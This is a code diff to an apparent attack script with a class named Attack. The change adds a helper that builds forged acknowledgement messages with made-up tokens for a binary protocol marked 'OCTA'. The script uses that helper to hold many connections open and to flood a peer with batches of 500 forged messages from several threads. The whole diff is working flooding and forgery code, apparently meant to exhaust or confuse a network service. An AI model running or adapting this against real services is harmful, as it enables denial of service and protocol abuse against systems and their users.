@@ -69,6 +69,12 @@ def forged_batch(count=20):
                  field(16, bytes(count)) + field(19, os.urandom(16)))
 
 
+def ask(actor):
+    """For the acknowledgements of an actor, with a token that is made up. PAIR1 begins with its count of hops."""
+    return message(struct.pack(">I", 1) + b"OCTA" + struct.pack("<HHI", VERSION, 0, actor) + field(1, actor) +
+                   field(2, (os.urandom(8),)) + field(19, os.urandom(16)))
+
+
 def request(service, method, payload=b"", number=1):
     return message(struct.pack(">I", 0x80000000 | number) + frame(b"Q", service << 8 | method, payload))
 
@@ -335,8 +341,8 @@ class Attack:
             name, port = self.ports[number % len(self.ports)]
             try:
                 peer = self.connect(name, port)
-                if name == "acks":  # the name of an actor: PAIR1 begins with its count of hops
-                    peer.sendall(message(struct.pack(">I", 1) + b"OCTA" + struct.pack("<HHI", VERSION, 0, 1 + number % 50)))
+                if name == "acks":
+                    peer.sendall(ask(1 + number % 50))
                 peers.append(peer)
                 self.done += 1
             except OSError:
@@ -352,7 +358,7 @@ class Attack:
             with contextlib.closing(self.connect(name, port)) as peer:
                 for _ in range(20):
                     ids = struct.unpack("<500I", os.urandom(2000))
-                    peer.sendall(b"".join(message(struct.pack(">I", 1) + b"OCTA" + struct.pack("<HHI", VERSION, 0, n)) for n in ids))
+                    peer.sendall(b"".join(map(ask, ids)))
                     self.done += 500
             self.done -= 1
         self.each(use, threads=2)
